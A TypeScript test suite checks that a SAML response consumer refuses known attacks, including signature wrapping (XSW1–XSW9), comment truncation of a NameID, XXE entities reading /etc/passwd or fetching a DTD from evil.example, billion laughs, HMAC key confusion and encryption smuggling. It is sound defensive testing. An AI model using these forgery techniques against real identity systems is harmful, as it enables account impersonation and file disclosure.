// Known attacks of 2011 to 2026, one fixture each, with the one reason that must stop it. Each forgery starts from a genuine,
// accepted Response and names the victim `eve@acme.test` somewhere: it is refused, or nobody ever reads her name.
// The numbers are the rows of the table in src/saml/README.md.
import { createHmac, sign } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { consumeResponse, type ResponseTrust } from '../../src/saml/response.ts';
import { oktaKey, otherKey, serviceProviderKey } from '../support/okta-keys.ts';
import { reasonOf } from '../support/reason.ts';
import { encryptXml, privateKeyDer } from '../support/saml-encrypter.ts';
import { type IssueOptions, issue, makeTrust, NOW_MS, post, REQUEST_ID } from '../support/saml-issuer.ts';
import { canonical, DS, ENVELOPED, METHODS } from '../support/saml-signer.ts';

const A = 'urn:oasis:names:tc:SAML:2.0:assertion';
const EVIL = 'eve@acme.test';

let okta: string;
let google: string;
let responseSigned: string;
let trust: ResponseTrust;

beforeAll(async () => {
  okta = await issue({ inclusivePrefixes: ['xs'] });
  google = await issue({ sign: 'assertion' });
  responseSigned = await issue({ sign: 'response' });
  trust = await makeTrust({ decryptionKeys: [privateKeyDer(serviceProviderKey)] });
});

const outcome = (xml: string, changes: Partial<ResponseTrust> = {}) =>
  reasonOf(() =>
    consumeResponse({ samlResponse: post(xml), trust: { ...trust, ...changes }, nowMs: NOW_MS }),
  );

const replace = (xml: string, from: string | RegExp, to: string | ((...found: string[]) => string)) => {
  const edited = xml.replace(from, to as string);
  if (edited === xml) throw new Error(`nothing to replace: ${from}`);
  return edited;
};

const ASSERTION = /<saml2:Assertion .*<\/saml2:Assertion>/s;
const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
const assertionOf = (xml: string) => ASSERTION.exec(xml)![0];
const signatureOf = (xml: string) => SIGNATURE.exec(xml)![0];
/** The assertion with the victim's name, without its signature, under another ID. */
const forge = (xml: string, id = 'id99') =>
  assertionOf(xml).replace(SIGNATURE, '').replace('id41', id).replaceAll('ada@acme.test', EVIL);

describe('1 and 2: canonicalizer and reader disagree', () => {
  for (const [what, markup, reason] of [
    ['a comment', '<!-- x -->', 'xml_comment'],
    ['a processing instruction', '<?x y?>', 'xml_processing_instruction'],
    ['a CDATA section', '<![CDATA[x]]>', 'xml_cdata'],
  ] as const) {
    it(`refuses ${what} in NameID, attribute, DigestValue and between elements`, async () => {
      for (const place of [
        'ada@acme',
        '<saml2:AttributeStatement>',
        '</ds:DigestValue>',
        '<saml2p:Status>',
        '</saml2p:Response>',
      ]) {
        expect(await outcome(replace(okta, place, `${markup}${place}`))).toBe(reason);
      }
    });
  }

  it('refuses the comment that a genuine signature covers in its other form', async () => {
    // CVE-2017-11427: the identity provider signs `ada@acme.test.evil.example`; a comment cuts it for a careless reader.
    const xml = await issue({
      editAssertion: (text) => replace(text, '>ada@acme.test<', '>ada@acme.test.evil.example<'),
    });
    expect(await outcome(replace(xml, 'ada@acme.test.evil', 'ada@acme.test<!---->.evil'))).toBe(
      'xml_comment',
    );
  });

  it('reads a NameID of several entities as one text', async () => {
    const xml = await issue({
      editAssertion: (text) => replace(text, '>ada@acme.test<', '>ada@acme.te&#115;t&amp;x<'),
    });
    expect(await outcome(xml)).toMatchObject({ returned: { nameId: 'ada@acme.test&x' } });
  });
});

describe('3: signature wrapping', () => {
  // XSW1 to XSW8 of "On Breaking SAML" (USENIX Security 2012), and what came after.
  const cases: [string, string, () => string][] = [
    [
      'XSW1: a new Response around, the signed one inside its Signature',
      'unexpected_root',
      () => `<x>${okta.replace(/^<\?.*?\?>/, '')}</x>`,
    ],
    [
      'XSW1: the signed Response inside the Signature of the forged one',
      'signature_malformed',
      () => {
        const inner = responseSigned.replace(/^<\?.*?\?>/, '').replace(SIGNATURE, '');
        const forged = responseSigned
          .replace('id40', 'id98')
          .replace('id41', 'id97')
          .replaceAll('ada@acme.test', EVIL);
        return replace(forged, '</ds:Signature>', `<ds:Object>${inner}</ds:Object></ds:Signature>`);
      },
    ],
    [
      'XSW2: the signed Response before the Signature that refers to it',
      'unexpected_element',
      () => {
        const inner = responseSigned.replace(/^<\?.*?\?>/, '').replace(SIGNATURE, '');
        const forged = responseSigned.replace('id40', 'id98').replaceAll('ada@acme.test', EVIL);
        return replace(forged, '<ds:Signature', `${inner}<ds:Signature`);
      },
    ],
    [
      'XSW3: a forged assertion before the signed one',
      'assertion_several',
      () => replace(google, ASSERTION, (signed) => forge(google) + signed),
    ],
    [
      'XSW3: a forged assertion behind the signed one',
      'assertion_several',
      () => replace(google, ASSERTION, (signed) => signed + forge(google)),
    ],
    [
      'XSW4: the signed assertion inside the forged one',
      'unexpected_element',
      () =>
        replace(google, ASSERTION, (signed) =>
          replace(forge(google), '</saml2:Assertion>', `${signed}</saml2:Assertion>`),
        ),
    ],
    [
      'XSW5: the forged assertion keeps the Signature, the signed one follows',
      'assertion_several',
      () =>
        replace(
          google,
          ASSERTION,
          (signed) =>
            replace(signed, 'id41', 'id99').replaceAll('ada@acme.test', EVIL) + signed.replace(SIGNATURE, ''),
        ),
    ],
    [
      'XSW6: the signed assertion inside the Signature of the forged one',
      'signature_malformed',
      () =>
        replace(google, ASSERTION, (signed) =>
          replace(
            replace(signed, 'id41', 'id99').replaceAll('ada@acme.test', EVIL),
            '</ds:Signature>',
            `${signed.replace(SIGNATURE, '')}</ds:Signature>`,
          ),
        ),
    ],
    [
      'XSW7: the forged assertion in Extensions',
      'unexpected_element',
      () =>
        replace(
          google,
          '<saml2p:Status>',
          `<saml2p:Extensions>${forge(google)}</saml2p:Extensions><saml2p:Status>`,
        ),
    ],
    [
      'XSW8: the signed assertion in an Object of the forged one',
      'signature_malformed',
      () =>
        replace(google, ASSERTION, (signed) =>
          replace(
            replace(signed, 'id41', 'id99').replaceAll('ada@acme.test', EVIL),
            '</ds:Signature>',
            `<ds:Object>${signed.replace(SIGNATURE, '')}</ds:Object></ds:Signature>`,
          ),
        ),
    ],
    [
      'XSW9: the forged assertion under the ID of the signed one',
      'id_repeated',
      () => replace(google, ASSERTION, (signed) => forge(google, 'id41') + signed),
    ],
    [
      'the forged assertion in StatusDetail',
      'unexpected_element',
      () =>
        replace(
          google,
          '</saml2p:Status>',
          `<saml2p:StatusDetail>${forge(google)}</saml2p:StatusDetail></saml2p:Status>`,
        ),
    ],
    [
      'the signed assertion in Advice',
      'unexpected_element',
      () =>
        replace(google, ASSERTION, (signed) =>
          replace(
            forge(google),
            '<saml2:AuthnStatement',
            `<saml2:Advice>${signed}</saml2:Advice><saml2:AuthnStatement`,
          ),
        ),
    ],
    [
      'the signed assertion in an AttributeValue',
      'unexpected_element',
      () =>
        replace(google, ASSERTION, (signed) =>
          replace(
            forge(google),
            '<saml2:AttributeStatement>',
            `<saml2:AttributeStatement><saml2:Attribute Name="x"><saml2:AttributeValue>${signed}</saml2:AttributeValue></saml2:Attribute>`,
          ),
        ),
    ],
    [
      'a Signature under Response that refers to the Assertion',
      'reference_mismatch',
      () => {
        return replace(
          google.replace(SIGNATURE, ''),
          '<saml2p:Status>',
          `${signatureOf(google)}<saml2p:Status>`,
        );
      },
    ],
    [
      'a forged assertion beside, in an EncryptedAssertion',
      'assertion_several',
      () =>
        replace(
          google,
          '</saml2p:Response>',
          `<saml2:EncryptedAssertion xmlns:saml2="${A}">${forge(google)}</saml2:EncryptedAssertion></saml2p:Response>`,
        ),
    ],
    [
      'a forged assertion as plain content of an EncryptedAssertion',
      'encryption_malformed',
      () =>
        replace(
          google,
          ASSERTION,
          () => `<saml2:EncryptedAssertion xmlns:saml2="${A}">${forge(google)}</saml2:EncryptedAssertion>`,
        ),
    ],
    ['a second root', 'xml_malformed', () => okta + forge(okta)],
    [
      'a forged assertion of the same local name in another namespace',
      'unexpected_element',
      () => replace(google, '<saml2p:Status>', `${forge(google).replaceAll(A, 'urn:x')}<saml2p:Status>`),
    ],
  ];
  for (const [what, reason, make] of cases) {
    it(what, async () => {
      expect(await outcome(make())).toBe(reason);
    });
  }

  it('never reads an unsigned Response beyond what may refuse: its Issuer is not the identity', async () => {
    const xml = replace(
      google,
      /(<saml2p:StatusCode [^>]*)\/>/,
      `$1><saml2p:StatusCode Value="${EVIL}"/></saml2p:StatusCode>`,
    );
    expect(await outcome(xml)).toMatchObject({ returned: { nameId: 'ada@acme.test' } });
  });
});

describe('4: a genuinely signed error Response', () => {
  const failure = (text: string) =>
    replace(text, ASSERTION, '').replace('status:Success', 'status:Responder');

  it('gives its signature to nobody', async () => {
    const signedError = await issue({ sign: 'response', editResponse: failure });
    expect(await outcome(signedError)).toBe('status_not_success');
    // OneUptime #2981: the forged assertion in an Object, the SignatureValue repeated.
    const object = `<ds:Object>${forge(google)}<ds:SignatureValue>${/<ds:SignatureValue>([^<]*)/.exec(signedError)![1]}</ds:SignatureValue></ds:Object>`;
    const smuggled = replace(signedError, '</ds:Signature>', `${object}</ds:Signature>`);
    expect(await outcome(smuggled)).toBe('status_not_success');
    const renamed = smuggled.replace('status:Responder', 'status:Success');
    expect(await outcome(renamed)).toBe('assertion_missing');
    const moved = replace(renamed, '</saml2p:Response>', `${forge(google, 'id96')}</saml2p:Response>`);
    expect(await outcome(moved)).toBe('signature_malformed');
  });

  it('removes one Signature, by identity: a twin of the same SignatureValue stays and is digested', async () => {
    const twin = `<saml2p:Extensions><x>${/<ds:SignatureValue>([^<]*)/.exec(responseSigned)![1]}</x></saml2p:Extensions>`;
    expect(await outcome(replace(responseSigned, '<saml2p:Status>', `${twin}<saml2p:Status>`))).toBe(
      'digest_mismatch',
    );
    expect(await outcome(replace(responseSigned, SIGNATURE, '$&$&'))).toBe('repeated_element');
  });
});

describe('5 and 20: DOCTYPE, entities, two parsers', () => {
  const declared = (doctype: string, text = okta) => replace(text, '?>', `?>${doctype}`);
  for (const [what, doctype] of [
    ['a bare DOCTYPE', '<!DOCTYPE x>'],
    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>'],
    [
      'a billion laughs',
      '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    ],
    [
      'an ATTLIST that makes another attribute the ID',
      '<!DOCTYPE x [<!ATTLIST saml2:Assertion foo ID #IMPLIED>]>',
    ],
    ['a DOCTYPE of lower case', '<!doctype x>'],
  ] as const) {
    it(`refuses ${what}`, async () => {
      expect(['xml_doctype', 'xml_malformed']).toContain(await outcome(declared(doctype)));
    });
  }
  it('refuses an entity that nothing declares, also in an ID (8)', async () => {
    expect(await outcome(replace(okta, 'ada@acme', '&ada;@acme'))).toBe('xml_unknown_entity');
    expect(await outcome(replace(okta, 'ID="id41"', 'ID="&x;id41"'))).toBe('xml_unknown_entity');
  });
  it('refuses an XSLT transform', async () => {
    const xml = await issue({
      signature: {
        editSignedInfo: (text) => replace(text, ENVELOPED, 'http://www.w3.org/TR/1999/REC-xslt-19991116'),
      },
    });
    expect(await outcome(xml)).toBe('transform_refused');
  });
  it('refuses UTF-16, UTF-7 and a declared encoding that is another', async () => {
    const utf16 = Buffer.from(okta, 'utf16le').toString('base64');
    expect(
      String(await reasonOf(() => consumeResponse({ samlResponse: utf16, trust, nowMs: NOW_MS }))),
    ).toMatch(/^xml_/);
    expect(await outcome(replace(okta, 'UTF-8', 'UTF-7'))).toBe('xml_encoding');
  });
});

describe('6, 10 and 16: more than one SignedInfo, more than one Reference', () => {
  const digest = /<ds:DigestValue>[^<]*<\/ds:DigestValue>/;
  it('refuses a second SignedInfo, before or behind', async () => {
    const signedInfo = /<ds:SignedInfo>.*?<\/ds:SignedInfo>/s.exec(okta)![0];
    const forged = signedInfo.replace(digest, '<ds:DigestValue>AAAA</ds:DigestValue>');
    expect(await outcome(replace(okta, signedInfo, forged + signedInfo))).toBe('signature_malformed');
    expect(await outcome(replace(okta, signedInfo, signedInfo + forged))).toBe('signature_malformed');
    expect(await outcome(replace(okta, '</ds:Signature>', `${forged}</ds:Signature>`))).toBe(
      'signature_malformed',
    );
  });
  it('refuses a second Reference that was signed', async () => {
    const xml = await issue({
      signature: {
        editSignedInfo: (text) => replace(text, /<ds:Reference.*<\/ds:Reference>/s, (one) => one + one),
      },
    });
    expect(await outcome(xml)).toBe('signature_malformed');
  });
  it('refuses a DigestValue of two texts', async () => {
    expect(await outcome(replace(okta, '<ds:DigestValue>', '<ds:DigestValue>AAAA<!---->'))).toBe(
      'xml_comment',
    );
    expect(await outcome(replace(okta, digest, (one) => one + one))).toBe('signature_malformed');
  });
});

describe('7: void canonicalization and polluted attributes', () => {
  for (const [what, markup, reason] of [
    ['a relative namespace name', ' xmlns:r="1"', 'xml_relative_namespace'],
    ['a relative namespace name with a dot', ' xmlns:r="./x"', 'xml_relative_namespace'],
    ['an empty namespace name with a prefix', ' xmlns:r=""', 'xml_empty_namespace'],
    ['xml bound anew', ' xmlns:xml="urn:x"', 'xml_reserved_prefix'],
    ['xmlns bound', ' xmlns:xmlns="urn:x"', 'xml_reserved_prefix'],
    [
      'another prefix for the xml namespace',
      ' xmlns:r="http://www.w3.org/XML/1998/namespace"',
      'xml_reserved_prefix',
    ],
    ['a second ID', ' ID="id42"', 'xml_duplicate_attribute'],
    ['an Id beside the ID', ' Id="id42"', 'id_ambiguous'],
    ['an ID in a namespace', ' xmlns:r="urn:r" r:ID="id42"', 'id_ambiguous'],
    [
      'two attributes of one expanded name',
      ' xmlns:r="urn:r" xmlns:q="urn:r" r:a="1" q:a="2"',
      'xml_duplicate_attribute',
    ],
  ] as const) {
    it(`refuses ${what}`, async () => {
      expect(await outcome(replace(okta, '<saml2:Assertion ', `<saml2:Assertion${markup} `))).toBe(reason);
    });
  }
  it('refuses the digest of nothing although the key has signed it', async () => {
    const editSignedInfo = (text: string) =>
      replace(text, /<ds:DigestValue>[^<]*/, '<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=');
    expect(await outcome(await issue({ signature: { editSignedInfo } }))).toBe('digest_of_nothing');
  });
  it('refuses names that the tree builder would rename', async () => {
    const attribute = '<saml2:AttributeStatement><saml2:Attribute Name="x"><saml2:AttributeValue>';
    for (const name of ['toString', '__proto__', 'hasOwnProperty', 'constructor']) {
      const xml = replace(
        okta,
        '<saml2:AttributeStatement>',
        `${attribute}<${name}/></saml2:AttributeValue></saml2:Attribute>`,
      );
      expect(await outcome(xml)).toBe('xml_reserved_name');
    }
  });
});

describe('9 and 22: encryption', () => {
  const encrypt = (clear: string) =>
    encryptXml(clear, { recipient: serviceProviderKey, cipher: 'aes-256-gcm' });
  it('is no signature: anybody can encrypt to us', async () => {
    const forged = replace(google, ASSERTION, '').replace(
      '</saml2p:Response>',
      `${await encrypt(forge(google))}</saml2p:Response>`,
    );
    expect(await outcome(forged)).toBe('signature_missing');
  });
  it('does not carry a signed assertion inside a forged one', async () => {
    const inside = replace(
      forge(google),
      '<saml2:AuthnStatement',
      `<saml2:Advice>${assertionOf(google)}</saml2:Advice><saml2:AuthnStatement`,
    );
    const xml = replace(google, ASSERTION, await encrypt(inside));
    expect(await outcome(xml)).toBe('unexpected_element');
  });
  it('does not carry two assertions', async () => {
    const xml = replace(google, ASSERTION, await encrypt(assertionOf(google) + forge(google)));
    expect(await outcome(xml)).toBe('decryption_failed');
  });
  it('does not smuggle a DOCTYPE', async () => {
    const xml = replace(
      google,
      ASSERTION,
      await encrypt(`<!DOCTYPE x [<!ENTITY e "x">]>${assertionOf(google)}`),
    );
    expect(await outcome(xml)).toBe('decryption_failed');
  });
  it('answers every changed byte of an AES-CBC ciphertext with the same word', async () => {
    const clear = await issue({ sign: 'assertion' });
    const answers = new Set<unknown>();
    for (let byte = 0; byte < 200; byte += 7) {
      const editCipher = (cipher: Buffer) => {
        cipher[byte]! ^= 0x55;
        return cipher;
      };
      const wrapped = await encryptXml(assertionOf(clear), { recipient: serviceProviderKey, editCipher });
      answers.add(await outcome(replace(clear, ASSERTION, wrapped)));
    }
    expect([...answers]).toEqual(['decryption_failed']);
  });
  it('refuses RSA 1.5 and triple DES', async () => {
    const xenc = 'http://www.w3.org/2001/04/xmlenc#';
    for (const options of [
      { dataUri: `${xenc}tripledes-cbc` },
      { keyMethod: `<xenc:EncryptionMethod Algorithm="${xenc}rsa-1_5"/>` },
    ]) {
      const wrapped = await encryptXml(assertionOf(google), { recipient: serviceProviderKey, ...options });
      expect(await outcome(replace(google, ASSERTION, wrapped))).toBe('encryption_algorithm_refused');
    }
  });
});

describe('11, 12 and 29: whose key', () => {
  const resign = (xml: string, uri: string, value: (octets: Buffer) => Buffer) => {
    const bent = xml.replace(METHODS['rsa-sha256'].uri, uri);
    const signedInfo = /<ds:SignedInfo>.*?<\/ds:SignedInfo>/s
      .exec(bent)![0]
      .replace('<ds:SignedInfo>', `<ds:SignedInfo xmlns:ds="${DS}">`);
    const octets = Buffer.from(canonical(signedInfo, []), 'utf8');
    return replace(
      bent,
      /<ds:SignatureValue>[^<]*/,
      `<ds:SignatureValue>${value(octets).toString('base64')}`,
    );
  };
  it('refuses every HMAC, keyed with the certificate or its public key', async () => {
    for (const hash of ['sha1', 'sha256', 'sha384', 'sha512']) {
      const uri = hash === 'sha1' ? `${DS}hmac-sha1` : `http://www.w3.org/2001/04/xmldsig-more#hmac-${hash}`;
      const forged = google.replaceAll('ada@acme.test', EVIL);
      const xml = resign(forged, uri, (octets) =>
        createHmac(hash, oktaKey.certificate).update(octets).digest(),
      );
      expect(await outcome(xml)).toBe('signature_algorithm_refused');
    }
  });
  it('refuses the attacker who brings his own certificate', async () => {
    expect(await outcome(await issue({ key: otherKey }))).toBe('signature_invalid');
  });
  it('refuses the attacker who signs and names the pinned certificate', async () => {
    const xml = resign(google, METHODS['rsa-sha256'].uri, (octets) =>
      sign('sha256', octets, otherKey.privateKey),
    );
    expect(await outcome(xml)).toBe('signature_invalid');
  });
  it('refuses the downgrade to SHA-1', async () => {
    expect(await outcome(await issue({ method: 'rsa-sha1' }))).toBe('sha1_refused');
    expect(await outcome(await issue({ digest: 'sha1' }))).toBe('sha1_refused');
  });
  it('refuses a signature of the same key under another algorithm', async () => {
    const other = METHODS['rsa-sha512'].uri;
    expect(await outcome(google.replace(METHODS['rsa-sha256'].uri, other))).toBe('signature_invalid');
    expect(await outcome(google.replace(METHODS['rsa-sha256'].uri, METHODS['rsa-pss-sha256'].uri))).toBe(
      'signature_invalid',
    );
    expect(await outcome(google.replace(METHODS['rsa-sha256'].uri, METHODS['ecdsa-sha256'].uri))).toBe(
      'key_algorithm_mismatch',
    );
  });
  it('does not verify without a certificate (14)', async () => {
    expect(await outcome(okta, { certificates: [] as never })).toBe('certificate_missing');
  });
});

describe('17 and 19: the right response for somebody else', () => {
  it('refuses the response of another identity provider, although its own connection would take it', async () => {
    const options: IssueOptions = {
      key: otherKey,
      editAssertion: (text) => text.replace('exkGatehouse', 'exkOther'),
      editResponse: (text) => text.replace('exkGatehouse', 'exkOther'),
    };
    expect(await outcome(await issue(options))).toBe('signature_invalid');
    // Both connections share a key: the Issuer decides.
    expect(await outcome(await issue({ ...options, key: oktaKey }))).toBe('issuer_mismatch');
  });
  it('refuses a response to another service provider, another ACS, another request', async () => {
    expect(await outcome(okta, { audience: 'https://other.example/' })).toBe('audience_mismatch');
    expect(await outcome(google, { acsUrl: 'https://other.example/acs' })).toBe('destination_mismatch');
    expect(
      await outcome(google.replace(/ Destination="[^"]*"/, ''), { acsUrl: 'https://other.example/acs' }),
    ).toBe('recipient_mismatch');
    expect(await outcome(okta, { requestId: '_other' })).toBe('in_response_to_mismatch');
  });
  it('refuses an unsolicited assertion dressed up as an answer, and an answer as unsolicited (27)', async () => {
    const unsolicited = await issue({ sign: 'assertion', requestId: null });
    const dressed = replace(unsolicited, 'IssueInstant', `InResponseTo="${REQUEST_ID}" IssueInstant`);
    expect(await outcome(dressed)).toBe('in_response_to_missing');
    const undressed = replace(google, ` InResponseTo="${REQUEST_ID}"`, '');
    expect(await outcome(undressed, { requestId: null })).toBe('in_response_to_unexpected');
  });
  it('applies the rules to encrypted assertions as well', async () => {
    const stale = await issue({
      encrypt: { recipient: serviceProviderKey },
      editAssertion: (text) => text.replaceAll('09:05:00', '08:30:00').replace('08:55:00', '08:25:00'),
    });
    expect(await outcome(stale)).toBe('confirmation_expired');
  });
});

describe('21: exhaustion', () => {
  it.each([
    [
      'depth',
      () => `<saml2p:Extensions>${'<x>'.repeat(100)}${'</x>'.repeat(100)}</saml2p:Extensions>`,
      'xml_too_deep',
    ],
    [
      'elements',
      () => `<saml2p:Extensions>${'<x/>'.repeat(6_000)}</saml2p:Extensions>`,
      'xml_too_many_nodes',
    ],
    [
      'attributes',
      () => `<saml2p:Extensions ${Array.from({ length: 65 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
      'xml_too_many_nodes',
    ],
    [
      'namespace declarations',
      () =>
        `<saml2p:Extensions>${Array.from({ length: 50 }, (_, i) => `<x xmlns:a${i}="urn:${i}" xmlns:b${i}="urn:${i}" xmlns:c${i}="urn:${i}">`).join('')}${'</x>'.repeat(50)}</saml2p:Extensions>`,
      'xml_too_many_nodes',
    ],
  ])('stops at too many %s', async (_, make, reason) => {
    expect(await outcome(replace(okta, '<saml2p:Status>', `${make()}<saml2p:Status>`))).toBe(reason);
  });
  it('stops at a namespace name that would be canonicalized to megabytes', async () => {
    const name = `urn:${'x'.repeat(20_000)}`;
    const values = '<n:v/>'.repeat(2_000);
    const attributes = `<saml2:AttributeStatement><saml2:Attribute Name="x"><saml2:AttributeValue><w xmlns:n="${name}">${values}</w></saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>`;
    const xml = replace(okta, /<saml2:AttributeStatement>.*<\/saml2:AttributeStatement>/, attributes);
    expect(['xml_not_canonicalizable', 'digest_mismatch', 'xml_too_large']).toContain(await outcome(xml));
  });
  it('stops at a PrefixList of thousands', async () => {
    const list = Array.from({ length: 5_000 }, (_, i) => `p${i}`).join(' ');
    const xml = replace(okta, 'PrefixList="xs"', `PrefixList="${list}"`);
    expect(await outcome(xml)).toBe('signature_malformed');
  });
});

describe('23: attributes', () => {
  it('come from signed octets alone', async () => {
    const smuggled = `<saml2:AttributeStatement xmlns:saml2="${A}"><saml2:Attribute Name="email"><saml2:AttributeValue>${EVIL}</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>`;
    expect(await outcome(replace(google, '</saml2p:Response>', `${smuggled}</saml2p:Response>`))).toBe(
      'unexpected_element',
    );
    expect(
      await outcome(
        replace(
          google,
          '<saml2p:Status>',
          `<saml2p:Extensions>${smuggled}</saml2p:Extensions><saml2p:Status>`,
        ),
      ),
    ).toBe('unexpected_element');
    expect(await outcome(replace(google, '</saml2:Assertion>', `${smuggled}</saml2:Assertion>`))).toBe(
      'digest_mismatch',
    );
  });
});

it('the ground truth: each of the three is accepted as it is', async () => {
  for (const xml of [okta, google, responseSigned]) {
    expect(await outcome(xml)).toMatchObject({ returned: { nameId: 'ada@acme.test' } });
  }
});
